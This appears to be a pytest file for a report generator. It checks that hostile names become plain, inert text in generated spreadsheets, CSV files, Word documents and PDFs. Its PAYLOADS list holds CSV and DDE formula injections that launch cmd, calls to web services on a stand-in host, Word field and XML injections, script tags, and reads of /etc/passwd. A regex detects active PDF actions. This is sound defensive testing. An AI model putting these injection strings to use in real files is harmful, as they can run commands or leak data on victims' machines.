"""Hostile names survive as text and nothing delivered comes alive: xlsx, csv, docx and pdf."""

import csv
import io
import re
import subprocess
import zipfile
from dataclasses import replace

import openpyxl
import pandas as pd
import pytest
from tests.reports.test_documents import POLICY, in_word, only_letters

from cluster_review.provisions.letter_texts import letters_from
from cluster_review.provisions.loading import load_procedure, read_yaml
from cluster_review.reports.dossier import dossier
from cluster_review.reports.filing_reminders import reminder_csv
from cluster_review.reports.font_coverage import coverage_of
from cluster_review.reports.letter_frame import LetterMaterial
from cluster_review.reports.letters import letters
from cluster_review.reports.pdf_paper import _fonts, pdf_bytes
from cluster_review.reports.printable import one_line
from cluster_review.reports.word_paper import word_bytes
from cluster_review.reports.workbook import workbook_bytes

PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=WEBSERVICE(\"http://example.invalid/\")",
    "=IMPORTXML(\"http://example.invalid/\",\"//a\")",
    "\t=1+1",
    "{=1+1}",
    "{DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}",
    "{ INCLUDETEXT \"http://example.invalid/x\" }",
    "{{ 7*7 }}{% for x in y %}",
    "</w:t></w:r><w:r><w:fldSimple w:instr=\"DDE\"/>",
    "#link(\"http://example.invalid\")[点击] #read(\"/etc/passwd\") $x$",
    "javascript:app.alert(1) https://example.invalid/x",
    "<script>alert(1)</script><a href='file:///etc/passwd'>",
    "\\\\example.invalid\\share\\x",
    "](http://example.invalid) ![](file:///x) *粗* _斜_ `码`",
]  # fmt: skip
NAMES = [
    "甲&乙<丙>\"丁\"'戊'集群",
    "𠮷野𡈽𪚥集群",
    "😀👩‍👩‍👧集群",
    "a\u202egnp.集群\u2066x\u2069",
    "控\x00制\x1b[31m符\x07集群",
    "ﷺ العربية עברית 集群",
    "长" * 4000,
]
_LIVE = re.compile(rb"/(JavaScript|JS|URI|Launch|SubmitForm|GoToR|EmbeddedFile|OpenAction|AA|RichMedia)\b")


def named(content, *names):
    """The run with its clusters called so in turn, and the first one's enterprises called every one of them."""
    frame = content.results["recommendations"].sort_values("cluster_id").copy()
    frame["name"] = [names[place % len(names)] for place in range(len(frame))]
    row = content.facts["enterprises"].query("cluster_id == 'C01'").iloc[:1]
    many = [row.assign(name=name, enterprise_id=f"E{place:02}") for place, name in enumerate(names)]
    facts = {**content.facts, "enterprises": pd.concat(many, ignore_index=True)}
    return replace(content, results={**content.results, "recommendations": frame}, facts=facts)


def papers(content):
    said = letters_from(read_yaml(POLICY / "letters.yaml"))
    material = LetterMaterial(content, said, load_procedure(POLICY))
    about = letters(material, "intended_revocation", ["C01"])
    return [
        dossier(content, "C01"),
        *about,
        *letters(material, "results"),
        *letters(material, "public_notice"),
    ]


@pytest.fixture(scope="module")
def hostile(content):
    """All payloads in one run: as enterprises in the dossier, eleven as clusters in the lists."""
    return papers(named(content, *PAYLOADS))


@pytest.fixture(scope="module")
def notices(content):
    """One letter for each payload as the name of its cluster."""
    return [papers(named(content, payload))[1] for payload in PAYLOADS]


def printed(written):
    command = ["pdftotext", "-raw", "-enc", "UTF-8", "-", "-"]
    return only_letters(
        subprocess.run(command, input=written, capture_output=True, check=True).stdout.decode()
    )


def test_payloads_in_word_are_text_and_the_only_field_is_the_page_number(hostile, notices):
    assert len(PAYLOADS) == 20
    for paper in (*hostile, *notices):
        written = word_bytes(paper)
        assert in_word(written) == [text for text in paper.texts() if text]
        with zipfile.ZipFile(io.BytesIO(written)) as archive:
            parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
        assert not [name for name in parts if "vba" in name.lower() or "embed" in name.lower()]
        body = "".join(t for name, t in parts.items() if name.startswith("word/") and name.endswith(".xml"))
        assert re.findall("<w:instrText[^>]*>([^<]*)<", body) == ["PAGE"]
        assert not re.search("<w:(fldSimple|hyperlink|object|altChunk|control)\\b", body)
        links = "".join(text for name, text in parts.items() if name.endswith(".rels"))
        assert 'TargetMode="External"' not in links
    listed = in_word(word_bytes(hostile[0]))
    for payload, notice in zip(PAYLOADS, notices, strict=True):
        assert one_line(payload) in listed
        assert any(one_line(payload) in text for text in notice.texts()), payload


@pytest.mark.needs_cjk_font
@pytest.mark.needs_pdftotext
def test_payloads_in_a_pdf_are_text_and_nothing_acts(hostile, notices):
    for paper in hostile:
        assert not _LIVE.search(unpacked(pdf_bytes(paper)))
    for payload, notice in zip(PAYLOADS, notices, strict=True):
        written = pdf_bytes(notice)
        assert not _LIVE.search(unpacked(written))
        assert only_letters(one_line(payload)) in printed(written)


def unpacked(pdf):
    """The file with its compressed parts beside it in plain."""
    import zlib

    plain = [pdf]
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.DOTALL):
        try:
            plain.append(zlib.decompress(stream))
        except zlib.error:
            continue
    return b"\n".join(plain)


def test_the_check_for_acting_parts_sees_one():
    assert _LIVE.search(unpacked(b"<< /S /URI /URI (http://example.invalid) >>"))


def test_payloads_in_a_workbook_stay_text(content):
    for names in (PAYLOADS[:10], PAYLOADS[10:]):
        written = workbook_bytes(named(content, *names))
        with zipfile.ZipFile(io.BytesIO(written)) as archive:
            parts = {
                name: archive.read(name).decode()
                for name in archive.namelist()
                if name.endswith((".xml", ".rels"))
            }
        assert not any("External" in text for name, text in parts.items() if name.endswith(".rels"))
        sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/sheet")]
        assert len(sheets) > 10
        assert not any("<f>" in sheet or "<hyperlink" in sheet for sheet in sheets)
        cells = openpyxl.load_workbook(io.BytesIO(written))["汇总"].iter_rows()
        read = {c.value for row in cells for c in row if c.data_type == "s"}
        assert {one_line(name) for name in names} <= read


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_a_csv_is_no_formula(payload):
    row = dict.fromkeys(
        ("cluster_id", "report_year", "due_date", "state_zh", "state_en", "days_late", "fault_zh", "fault_en",
         "fault_party", "received_date", "reminded_date", "reason_zh", "reason_en"), "x",
    ) | {"name": payload, "filer": payload}  # fmt: skip
    rows = list(csv.reader(io.StringIO(reminder_csv([row]).removeprefix("\ufeff"))))
    assert len(rows) == 2
    for cell in rows[1]:
        assert not re.match(r"[=+\-@\t\r]", cell), cell
    assert one_line(payload) in rows[1][1].removeprefix("'")


def test_rare_names_are_read_back_as_they_were_written(content):
    """Control characters and changes of direction are shown as a replacement, everything else as it is."""
    shown = {one_line(name) for name in NAMES}
    run = named(content, *NAMES)
    for paper in papers(run):
        assert in_word(word_bytes(paper)) == [text for text in paper.texts() if text]
    assert shown <= set(in_word(word_bytes(papers(run)[0])))
    for name in NAMES:
        paper = papers(named(content, name))[1]
        assert any(one_line(name) in text for text in in_word(word_bytes(paper)))
        assert len(f"{paper.name}.docx".encode()) <= 255
    cells = openpyxl.load_workbook(io.BytesIO(workbook_bytes(run)))["汇总"].iter_rows()
    assert shown <= {c.value for row in cells for c in row}


@pytest.mark.needs_cjk_font
@pytest.mark.needs_pdftotext
def test_no_character_vanishes_from_a_pdf(content):
    """One that no font has is printed as its code."""
    covered = coverage_of(_fonts()[2])
    for name in (*NAMES[:3], "\U0002fa1d\U0010fffd甲"):
        text = covered.shown(one_line(name))
        assert only_letters(text) in printed(pdf_bytes(papers(named(content, name))[1]))
    assert covered.shown("甲A1") == "甲A1"
    assert covered.shown("\U0010fffd") == "〔U+10FFFD〕"


@pytest.mark.needs_libreoffice
def test_libreoffice_opens_every_word_file_and_reads_the_same(content, tmp_path):
    made = papers(named(content, *NAMES[:2]))
    for number, paper in enumerate(made):
        (tmp_path / f"{number}.docx").write_bytes(word_bytes(paper))
    command = ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
               "docx:Office Open XML Text", "--outdir", "out", *(f"{n}.docx" for n in range(len(made)))]  # fmt: skip
    subprocess.run(command, cwd=tmp_path, check=True, capture_output=True, timeout=120)
    for number, paper in enumerate(made):
        read = "".join(in_word((tmp_path / "out" / f"{number}.docx").read_bytes()))
        assert only_letters(read) == only_letters("".join(paper.texts()))
